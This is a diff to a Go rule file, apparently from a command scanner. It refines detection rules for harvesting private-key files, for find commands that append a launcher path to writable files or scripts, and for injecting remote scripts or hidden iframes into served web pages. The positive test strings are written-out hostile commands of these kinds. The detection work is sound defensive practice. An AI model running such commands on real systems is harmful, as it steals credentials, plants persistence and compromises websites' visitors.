@@ -34,6 +34,7 @@ var keyHarvest = &rule{
 		"for x in .pem .key .ppk .p12 .pfx; do find / -name \"*$x\" 2>/dev/null; done",
 		"Get-ChildItem C:\\ -Recurse -Include *.pfx,*.p12,*.ppk,*.kdbx -ErrorAction SilentlyContinue",
 		"dir C:\\Users /s /b *.ppk *.pem *.kdbx *.pfx",
+		"locate -r '\\.\\(pem\\|ppk\\|kdbx\\|jks\\)$'",
 	},
 	MustNot: []string{
 		"find /etc/ssl -name '*.pem' -o -name '*.key'",
@@ -48,6 +49,7 @@ var findAppend = &rule{
 	Must: []string{
 		"find / -type f -perm -o+w -exec sh -c 'echo \"/var/tmp/.u &\" >> \"{}\"' \\;",
 		"find /etc /usr/local/bin -writable -name '*.sh' -exec sh -c 'echo /var/tmp/.u >> {}' \\;",
+		"find /opt -type f -writable -exec sh -c 'echo /var/tmp/.u >> \"$1\"' _ {} \\;",
 	},
 	MustNot: []string{
 		"find . -name '*.md' -exec sh -c 'echo \"\" >> \"{}\"' \\;",
@@ -57,7 +59,7 @@ var findAppend = &rule{
 
 var webInject = &rule{
 	ID: "web-page-script-inject", Class: "initial access", Sev: high,
-	Msg: "adds a script or frame loaded from another host to a page a web server serves (a drive-by compromise of the site's visitors, ATT&CK T1189)",
+	Msg: "adds a script or frame loaded over plain HTTP or from a bare address to a page a web server serves (a drive-by compromise of the site's visitors, ATT&CK T1189)",
 	Must: []string{
 		"echo '<script src=\"http://198.51.100.4/c.js\"></script>' >> /var/www/html/index.html",
 		"Add-Content C:\\inetpub\\wwwroot\\default.htm '<iframe src=\"https://198.51.100.5/x\" width=0 height=0></iframe>'",
@@ -65,6 +67,7 @@ var webInject = &rule{
 	MustNot: []string{
 		"echo '<script src=\"/static/app.js\"></script>' >> /var/www/html/index.html",
 		"echo '<script src=\"https://cdn.example.org/lib.js\"></script>' >> ./public/index.html",
+		"echo '<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>' >> /var/www/html/index.html",
 	},
 }
 
@@ -75,6 +78,10 @@ var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject}
 var (
 	docExtRe = regexp.MustCompile(`\.(docx?|docm|xlsx?|xlsm|pptx?|pdf|pst|ost|odt|ods|odp|rtf|eml|msg|kdbx)\b`)
 	keyExtRe = regexp.MustCompile(`(?:^|[\s*"'\\(,{|])\.(key|pem|ppk|p12|pfx|pgp|gpg|asc|kdbx|jks|keystore|ovpn|kirbi)\b`)
+	// keyWordRe are the extensions that are no English word, counted
+	// however the search spells them (a regular expression's alternation,
+	// a loop's word list).
+	keyWordRe = regexp.MustCompile(`\b(pem|ppk|p12|pfx|kdbx|jks|keystore|ovpn|kirbi)\b`)
 	// profileScopeRe is where a user's documents are: a home or profile
 	// folder, every profile, or a whole drive.
 	profileScopeRe = regexp.MustCompile(`(^|\s|")(\$env:userprofile|\$\{env:userprofile\}|%userprofile%|\$home\b|~/?(\s|"|$)|\$home/?(\s|"|$)|[a-z]:\\users\b|/home\b|/users\b|[a-z]:\\?(\s|"|$)|/(\s|"|$))`)
@@ -94,8 +101,14 @@ func archives(in inv) bool {
 	case "rar", "winrar", "7z", "7za", "7zr":
 		return first == "a"
 	case "tar", "bsdtar":
-		f := strings.TrimLeft(first, "-/")
-		return strings.HasPrefix(first, "-") && strings.ContainsRune(f, 'c') || first == "-a" || strings.HasPrefix(first, "c")
+		if len(in.args) > 0 && !strings.HasPrefix(in.args[0], "-") && strings.ContainsRune(in.args[0], 'c') {
+			return true // bundled flags without a dash: tar czf out.tgz …
+		}
+		for _, a := range in.args {
+			if a == "--create" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a, 'c') {
+				return true
+			}
+		}
 	}
 	return false
 }
@@ -130,7 +143,7 @@ func scriptChecks(a *analysis, put func(r *rule, sev sdk.Severity, s, e int)) {
 		}
 		put(collectArchive, 0, s, e)
 	}
-	if search && distinct(keyExtRe, asciiLower(a.text), 1) >= 4 {
+	if l := asciiLower(a.text); search && (distinct(keyExtRe, l, 1) >= 4 || distinct(keyWordRe, l, 1) >= 4) {
 		put(keyHarvest, 0, 0, len(a.text))
 	}
 	for _, c := range a.calls {
@@ -145,9 +158,9 @@ func scriptChecks(a *analysis, put func(r *rule, sev sdk.Severity, s, e int)) {
 }
 
 var (
-	remoteScriptRe  = regexp.MustCompile(`(?s)<(script|iframe)\b.{0,400}?\bsrc\s*=\s*\(?\s*\\?['"]?https?://`)
+	remoteScriptRe  = regexp.MustCompile(`(?s)<(script|iframe)\b.{0,400}?\bsrc\s*=\s*\(?\s*\\?['"]?(http://|https://\d{1,3}(\.\d{1,3}){3}[:/'"])`)
 	webRootWriteRe  = regexp.MustCompile(`(>>?|\btee\s+(-a\s+)?|\badd-content\s+(-path\s+)?|\bset-content\s+(-path\s+)?|\bout-file\s+(-append\s+)?(-filepath\s+)?)\s*['"]?(/var/www/|/usr/share/nginx/html/|/srv/(www|http)/|c:\\+inetpub\\+wwwroot\\)`)
-	appendToFoundRe = regexp.MustCompile(`(>>|\btee\s+-a)\s*\\?['"]?\{\}`)
+	appendToFoundRe = regexp.MustCompile(`(>>|\btee\s+-a)\s*\\?['"]?(\{\}|\$\{?[01@]\b)`)
 )
 
 // findAppends reports a find that searches the system (from /, a system
